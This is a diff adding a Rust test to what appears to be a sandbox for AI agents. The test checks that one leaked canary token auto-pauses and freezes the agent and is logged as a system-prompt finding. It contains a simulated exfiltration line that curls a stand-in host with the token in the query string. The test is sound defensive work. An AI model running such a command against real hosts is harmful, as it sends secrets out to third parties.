@@ -1024,6 +1024,33 @@ fn nested_airlock_run_sees_namespaces_missing_and_refuses() {
 // --- 9. auto-pause ---
 
 #[test]
+fn one_canary_in_a_request_auto_pauses_the_agent_at_once() {
+    // A threshold no test reaches: only the canary can fire it.
+    let s = Setup::new(Policy { sandbox: "auto_pause = { denials = 100, window = \"60s\" }", ..Default::default() });
+    let planted = s.al.call(["--json", "canary", "new", "--session", "s1"]).expect(0).json();
+    let line = planted["plant"].as_str().unwrap().to_string();
+    let token = line.split_once("reference: ").unwrap().1.split('.').next().unwrap().to_string();
+    let mut reaper = Reaper { s: &s, children: Vec::new() };
+    let script = format!(
+        "curl -s -o /dev/null -w '%{{http_code}}\\n' 'http://denied.example/?ref={token}'; echo SENT; sleep 30"
+    );
+    let (child, feeder) = s.run(true).args(["--", "sh", "-c", &script]).spawn();
+    feeder.join().unwrap();
+    reaper.children.push(child);
+    let runs = s.wait_runs("the run to be auto-paused", |r| r.len() == 1 && r[0]["paused"] == true);
+    assert!(frozen(&runs[0]), "the auto-paused run is not frozen: {:#}", runs[0]);
+    let events = s.process_events();
+    assert!(events.iter().any(|e| e["unmapped"]["airlock"]["pause"]["auto"] == true), "{events:#?}");
+    let findings = s.al.call(["--json", "audit", "query", "--type", "finding"]).expect(0);
+    assert!(findings.out().contains("s1/system-prompt"), "{}", findings.out());
+    assert!(!findings.out().contains(&token));
+    s.al.call(["kill", "--all", "--grace", "1s"]).expect(0);
+    let mut child = reaper.children.pop().unwrap();
+    let code = wait_exit(&mut child);
+    assert!(killed_by_signal(code), "airlock run exited {code}");
+}
+
+#[test]
 fn repeated_denials_auto_pause_the_agent() {
     let s = Setup::new(Policy { sandbox: "auto_pause = { denials = 3, window = \"60s\" }", ..Default::default() });
     let mut reaper = Reaper { s: &s, children: Vec::new() };
